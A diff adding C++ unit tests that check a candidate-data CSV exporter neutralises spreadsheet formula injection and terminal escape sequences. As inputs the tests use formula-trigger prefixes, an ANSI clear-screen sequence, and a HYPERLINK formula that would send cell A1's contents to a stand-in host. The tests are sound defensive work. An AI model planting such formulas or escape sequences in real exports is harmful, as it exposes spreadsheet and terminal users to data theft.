@@ -81,5 +81,32 @@ TEST(CandidateCsv, HasAFieldForEachColumn) {
             "int-1,in_progress,,,,false,false,,,Ada Example,ada@example.com,,posting-1,,\r\n");
 }
 
+TEST(CandidateCsv, HasNoFormulaInAnyColumnForASpreadsheet) {
+  heymilo::CandidateResponse c;
+  c.interview_id = "=1";
+  c.status = heymilo::CandidateStatus("@2");
+  c.name = "=HYPERLINK(\"http://example.com?\"&A1,\"x\")";
+  c.email = "-3";
+  c.candidate_id = "+4";
+  c.posting_id = "\t5";
+  c.interview_url = "\uFF1D6";
+  c.score = -7;
+  c.metadata = std::map<std::string, std::string>{{"k", "a;=8"}};
+  const CandidateFormat format = candidateCsv({true, false});
+  EXPECT_EQ(format.header, "\xEF\xBB\xBF" + candidateCsv().header);
+  EXPECT_EQ(format.row(c),
+            "\"'=1\",\"'@2\",-7.0,,,false,false,,,"
+            "\"'=HYPERLINK(\"\"http://example.com?\"\"&A1,\"\"x\"\")\",\"'-3\",\"'+4\",\"'\t5\","
+            "\"'\uFF1D6\",\"{\"\"k\"\":\"\"a;'=8\"\"}\"\r\n");
+  EXPECT_EQ(format.row(fullCandidate()), candidateCsv().row(fullCandidate()));
+}
+
+TEST(CandidateCsv, CanNotWriteToATerminal) {
+  heymilo::CandidateResponse c = candidate();
+  c.name = "a\x1B[2J\nb";
+  EXPECT_THAT(candidateCsv({false, true}).row(c), HasSubstr(",a␛[2J␊b,"));
+  EXPECT_THAT(candidateCsv().row(c), HasSubstr(",\"a\x1B[2J\nb\","));
+}
+
 }  // namespace
 }  // namespace support
